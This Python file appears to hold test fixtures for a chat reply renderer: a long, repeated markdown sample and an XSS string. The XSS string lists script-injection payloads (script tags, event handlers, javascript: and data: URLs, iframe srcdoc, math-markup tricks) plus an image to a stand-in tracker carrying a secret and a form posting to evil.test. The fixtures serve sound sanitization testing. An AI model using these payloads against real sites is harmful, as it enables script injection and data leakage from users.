"""Texts for modes that show how replies are rendered."""

_SECTION = """
## Section {n}: *emphasis*, **weight**, ~~struck~~ and `code`

A paragraph with a [link](https://example.org/{n}), an autolink <https://example.org>, a note[^{n}]
and inline maths $e^{{i\\pi}} + 1 = 0$. 中文、日本語 and العربية stand beside emoji 🚀.

1. First
   - nested *item*
   - [x] done
   - [ ] open
2. Second

> A quotation
> > with another in it.

| left | centre | right |
|:-----|:------:|------:|
| a{n} | `b|c`  | 1,234 |
| long cell with **weight** | x | 5 |

```python
def section_{n}(values: list[int]) -> int:
    \"\"\"Add them.\"\"\"
    return sum(v * {n} for v in values)  # <b>not bold</b>
```

```mermaid
graph TD; A{n}-->B;
```

$$
\\int_0^{n} x^2 \\, dx = \\frac{{{n}^3}}{{3}}
$$

---

[^{n}]: A note with `code`.
"""

MARKDOWN = "# A rich reply\n" + "".join(_SECTION.format(n=n) for n in range(1, 58))

XSS = """Hello <script>window.pwned=1</script> <img src=x onerror="window.pwned=2">
[click](javascript:window.pwned=3) [data](data:text/html,<script>window.pwned=4</script>)
<svg onload="window.pwned=5"></svg> ![x](https://tracker.test/p.png?q=secret "t")
```html
<script>window.pwned=6</script>
```
<iframe srcdoc="<script>parent.pwned=7</script>"></iframe> <a href="vbscript:x">a</a>
<style>body{display:none}</style> <form action="https://evil.test"><input name=q></form>
$\\href{javascript:window.pwned=8}{x}$ <math><mtext><script>window.pwned=9</script></mtext></math>
"""
